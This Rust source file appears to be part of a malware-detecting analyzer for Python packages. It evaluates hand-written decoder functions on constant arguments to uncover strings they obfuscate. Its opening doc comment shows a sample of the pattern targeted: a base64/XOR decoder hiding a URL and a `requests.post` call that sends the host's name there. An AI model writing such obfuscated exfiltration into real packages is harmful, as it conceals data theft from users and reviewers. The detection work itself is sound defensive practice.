//! Calls of the file's own functions whose bodies are statements, run on constant arguments,
//! so a decoder a package writes by hand reads like the string it hides:
//!
//! ```python
//! def _d(s, k="K3y"):
//!     b = bytearray(base64.b64decode(s))
//!     for i in range(len(b)):
//!         b[i] ^= ord(k[i % len(k)])
//!     return b.decode()
//! requests.post(_d("IUcNO0BD…"), data=socket.gethostname())
//! ```
//!
//! Expressions are [`crate::value`]'s constant evaluator with the function's locals as its
//! environment; this module adds the statements: assignments (to names, tuples and items of a
//! local list or bytearray), augmented assignments, `if`/`elif`/`else`, `for` over a constant
//! iterable, `while`, `break`/`continue`, `return`, `list.append`/`extend`, and conditions
//! (comparisons, `and`/`or`/`not`, `in`). Nothing outside the call can change: assigning a
//! name the function does not bind, or calling anything but the evaluator's pure builtins,
//! ends the run without a value. Every statement and loop turn spends the file's evaluation
//! budget, and values stay within the evaluator's size bounds, so an endless or exploding
//! decoder stops at a bound.

use crate::value::{as_items, index, int_op, merge_enc, plus, Const, Env, V};
use crate::{Analyzer, FnBody, ScopeId};
use ruff_python_ast::{self as ast, BoolOp, CmpOp, Expr, Operator, Stmt, UnaryOp};

/// Nested runs of statement bodies (a decoder calling another).
const MAX_RUN_DEPTH: u32 = 8;

enum Flow {
    Next,
    Return(Const),
    Break,
    Continue,
}

/// A run in progress: the function's scope and where its locals start in the environment.
struct Run {
    scope: ScopeId,
    base: usize,
    depth: u32,
}

impl<'a> Analyzer<'a> {
    /// The value of calling function `f` with these argument values (positional, then by
    /// keyword), running its statements; `None` when it does not run to a `return` of a
    /// constant within the bounds.
    pub(crate) fn run_function(
        &self,
        f: usize,
        args: Vec<Const>,
        keywords: Vec<(&'a str, Const)>,
        d: u32,
    ) -> Option<Const> {
        let func = &self.funcs[f];
        let FnBody::Block(body) = func.body else {
            return None;
        };
        let run_depth = self.run_depth.get();
        if run_depth >= MAX_RUN_DEPTH {
            return None;
        }
        let mut env: Env<'a> = Vec::new();
        let mut args = args.into_iter();
        for (i, &p) in func.params.iter().enumerate() {
            let value = match (i < func.positional).then(|| args.next()).flatten() {
                Some(v) => v,
                None => match keywords.iter().find(|(k, _)| *k == p) {
                    Some((_, v)) => v.clone(),
                    None => {
                        let default = func.defaults.get(i).copied().flatten()?;
                        self.eval(default, func.scope, &mut Vec::new(), d)?
                    }
                },
            };
            env.push((p, value));
        }
        if args.next().is_some() {
            return None;
        }
        let run = Run {
            scope: func.scope,
            base: 0,
            depth: d,
        };
        self.run_depth.set(run_depth + 1);
        let flow = self.exec_all(body, &run, &mut env);
        self.run_depth.set(run_depth);
        match flow? {
            Flow::Return(v) => Some(v),
            _ => None,
        }
    }

    fn exec_all(&self, stmts: &'a [Stmt], run: &Run, env: &mut Env<'a>) -> Option<Flow> {
        for s in stmts {
            match self.exec(s, run, env)? {
                Flow::Next => {}
                other => return Some(other),
            }
        }
        Some(Flow::Next)
    }

    fn exec(&self, s: &'a Stmt, run: &Run, env: &mut Env<'a>) -> Option<Flow> {
        if !self.spend(1) {
            return None;
        }
        let d = run.depth + 1;
        match s {
            Stmt::Pass(_) => Some(Flow::Next),
            Stmt::Break(_) => Some(Flow::Break),
            Stmt::Continue(_) => Some(Flow::Continue),
            Stmt::Return(r) => Some(Flow::Return(match &r.value {
                Some(v) => self.eval(v, run.scope, env, d)?,
                None => Const::new(V::None),
            })),
            Stmt::Expr(e) => {
                match &*e.value {
                    // A docstring.
                    Expr::StringLiteral(_) => {}
                    Expr::Call(c) => self.exec_method_call(c, run, env)?,
                    _ => return None,
                }
                Some(Flow::Next)
            }
            Stmt::Assign(a) => {
                let value = self.eval(&a.value, run.scope, env, d)?;
                for t in &a.targets {
                    self.assign(t, value.clone(), run, env)?;
                }
                Some(Flow::Next)
            }
            Stmt::AnnAssign(a) => {
                let value = self.eval(a.value.as_deref()?, run.scope, env, d)?;
                self.assign(&a.target, value, run, env)?;
                Some(Flow::Next)
            }
            Stmt::AugAssign(a) => {
                let rhs = self.eval(&a.value, run.scope, env, d)?;
                let old = self.eval(&a.target, run.scope, env, d)?;
                let new = combine(a.op, old, rhs)?;
                self.assign(&a.target, new, run, env)?;
                Some(Flow::Next)
            }
            Stmt::If(i) => {
                if self.truth(&i.test, run, env)? {
                    return self.exec_all(&i.body, run, env);
                }
                for clause in &i.elif_else_clauses {
                    let taken = match &clause.test {
                        Some(t) => self.truth(t, run, env)?,
                        None => true,
                    };
                    if taken {
                        return self.exec_all(&clause.body, run, env);
                    }
                }
                Some(Flow::Next)
            }
            Stmt::For(f) => {
                if f.is_async {
                    return None;
                }
                let items = self.eval(&f.iter, run.scope, env, d)?;
                let list = as_items(&items.v)?;
                for item in list {
                    if !self.spend(1) {
                        return None;
                    }
                    self.assign(&f.target, Const::with(item, items.enc.clone()), run, env)?;
                    match self.exec_all(&f.body, run, env)? {
                        Flow::Break => return Some(Flow::Next),
                        Flow::Return(v) => return Some(Flow::Return(v)),
                        Flow::Next | Flow::Continue => {}
                    }
                }
                self.exec_all(&f.orelse, run, env)
            }
            Stmt::While(w) => {
                while self.truth(&w.test, run, env)? {
                    if !self.spend(1) {
                        return None;
                    }
                    match self.exec_all(&w.body, run, env)? {
                        Flow::Break => return Some(Flow::Next),
                        Flow::Return(v) => return Some(Flow::Return(v)),
                        Flow::Next | Flow::Continue => {}
                    }
                }
                self.exec_all(&w.orelse, run, env)
            }
            _ => None,
        }
    }

    /// `out.append(x)` / `out.extend(xs)` on a local list; any other call is not known to
    /// be free of effects.
    fn exec_method_call(&self, c: &'a ast::ExprCall, run: &Run, env: &mut Env<'a>) -> Option<()> {
        let Expr::Attribute(a) = &*c.func else {
            return None;
        };
        let Expr::Name(n) = &*a.value else {
            return None;
        };
        let method = a.attr.as_str();
        if !matches!(method, "append" | "extend") || c.arguments.args.len() != 1 {
            return None;
        }
        let arg = self.eval(&c.arguments.args[0], run.scope, env, run.depth + 1)?;
        let slot = self.local_slot(n.id.as_str(), run, env)?;
        let V::List(items) = &mut slot.v else {
            return None;
        };
        match method {
            "append" => items.push(arg.v),
            _ => items.extend(as_items(&arg.v)?),
        }
        if items.len() > u16::MAX as usize {
            return None;
        }
        merge_enc(&mut slot.enc, &arg.enc);
        Some(())
    }

    /// The binding of a local of the running call.
    fn local_slot<'e>(&self, name: &str, run: &Run, env: &'e mut Env<'a>) -> Option<&'e mut Const> {
        env[run.base..]
            .iter_mut()
            .rev()
            .find(|(k, _)| *k == name)
            .map(|(_, v)| v)
    }

    fn assign(&self, target: &'a Expr, value: Const, run: &Run, env: &mut Env<'a>) -> Option<()> {
        match target {
            Expr::Name(n) => {
                let name = n.id.as_str();
                // A name the function assigns is its local: the run changes nothing outside.
                match self.local_slot(name, run, env) {
                    Some(slot) => *slot = value,
                    None => env.push((name, value)),
                }
                Some(())
            }
            Expr::Tuple(ast::ExprTuple { elts, .. }) | Expr::List(ast::ExprList { elts, .. }) => {
                let items = as_items(&value.v)?;
                if items.len() != elts.len() {
                    return None;
                }
                for (t, item) in elts.iter().zip(items) {
                    self.assign(t, Const::with(item, value.enc.clone()), run, env)?;
                }
                Some(())
            }
            Expr::Subscript(s) => {
                let Expr::Name(n) = &*s.value else {
                    return None;
                };
                let V::Int(i) = self.eval(&s.slice, run.scope, env, run.depth + 1)?.v else {
                    return None;
                };
                let slot = self.local_slot(n.id.as_str(), run, env)?;
                match (&mut slot.v, value.v) {
                    (V::List(items), v) => {
                        let at = index(items.len(), i)?;
                        items[at] = v;
                    }
                    (V::Bytes(bytes), V::Int(b)) => {
                        let at = index(bytes.len(), i)?;
                        bytes[at] = u8::try_from(b).ok()?;
                    }
                    _ => return None,
                }
                merge_enc(&mut slot.enc, &value.enc);
                Some(())
            }
            _ => None,
        }
    }

    fn truth(&self, e: &'a Expr, run: &Run, env: &mut Env<'a>) -> Option<bool> {
        let d = run.depth + 1;
        match e {
            Expr::BoolOp(b) => {
                let mut all = true;
                let mut any = false;
                for v in &b.values {
                    let t = self.truth(v, run, env)?;
                    all &= t;
                    any |= t;
                    // Short-circuit as Python does: the rest may not be evaluable.
                    if (b.op == BoolOp::And && !t) || (b.op == BoolOp::Or && t) {
                        break;
                    }
                }
                Some(if b.op == BoolOp::And { all } else { any })
            }
            Expr::UnaryOp(u) if u.op == UnaryOp::Not => Some(!self.truth(&u.operand, run, env)?),
            Expr::Compare(c) => {
                let mut left = self.eval(&c.left, run.scope, env, d)?.v;
                for (op, right) in c.ops.iter().zip(c.comparators.iter()) {
                    let right = self.eval(right, run.scope, env, d)?.v;
                    if !compare(*op, &left, &right)? {
                        return Some(false);
                    }
                    left = right;
                }
                Some(true)
            }
            Expr::BooleanLiteral(b) => Some(b.value),
            other => Some(truthy(&self.eval(other, run.scope, env, d)?.v)),
        }
    }
}

fn truthy(v: &V) -> bool {
    match v {
        V::Str(s) => !s.is_empty(),
        V::Bytes(b) => !b.is_empty(),
        V::Int(i) => *i != 0,
        V::List(l) => !l.is_empty(),
        V::None => false,
    }
}

fn compare(op: CmpOp, l: &V, r: &V) -> Option<bool> {
    Some(match op {
        CmpOp::Eq => l == r,
        CmpOp::NotEq => l != r,
        CmpOp::Is => matches!((l, r), (V::None, V::None)),
        CmpOp::IsNot => !matches!((l, r), (V::None, V::None)),
        CmpOp::In | CmpOp::NotIn => {
            let found = match (l, r) {
                (V::Str(a), V::Str(b)) => b.contains(a.as_str()),
                (V::Int(a), V::Bytes(b)) => b.iter().any(|x| *x as i64 == *a),
                (x, V::List(items)) => items.contains(x),
                _ => return None,
            };
            found == (op == CmpOp::In)
        }
        _ => {
            let ord = match (l, r) {
                (V::Int(a), V::Int(b)) => a.cmp(b),
                (V::Str(a), V::Str(b)) => a.cmp(b),
                (V::Bytes(a), V::Bytes(b)) => a.cmp(b),
                _ => return None,
            };
            match op {
                CmpOp::Lt => ord.is_lt(),
                CmpOp::LtE => ord.is_le(),
                CmpOp::Gt => ord.is_gt(),
                _ => ord.is_ge(),
            }
        }
    })
}

/// `a op= b` of two constants.
fn combine(op: Operator, a: Const, b: Const) -> Option<Const> {
    if op == Operator::Add {
        return plus(a, b);
    }
    let mut enc = a.enc.clone();
    merge_enc(&mut enc, &b.enc);
    let v = match (a.v, b.v) {
        (V::Int(x), V::Int(y)) => {
            if op == Operator::BitXor {
                merge_enc(&mut enc, &["xor"]);
            }
            V::Int(int_op(op, x, y)?)
        }
        _ => return None,
    };
    Some(Const::with(v, enc))
}
